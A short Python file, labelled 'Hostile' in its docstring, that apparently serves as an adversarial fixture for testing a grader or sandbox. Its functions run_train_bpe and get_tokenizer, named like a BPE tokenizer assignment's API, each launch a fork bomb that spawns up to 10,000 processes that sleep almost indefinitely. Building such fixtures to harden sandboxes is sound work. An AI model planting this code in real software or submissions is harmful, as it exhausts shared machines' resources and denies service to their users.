"""Hostile: forks until the OS refuses; every child sleeps forever (a grandchild tree left running)."""

import os
import time


def _bomb():
    forked = 0
    while forked < 10_000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(10**9)
            os._exit(0)
        forked += 1
    raise RuntimeError(f"fork bomb stopped after {forked} processes")


def run_train_bpe(input_path, vocab_size, special_tokens, **kwargs):
    _bomb()


def get_tokenizer(vocab, merges, special_tokens=None, pattern=None):
    _bomb()
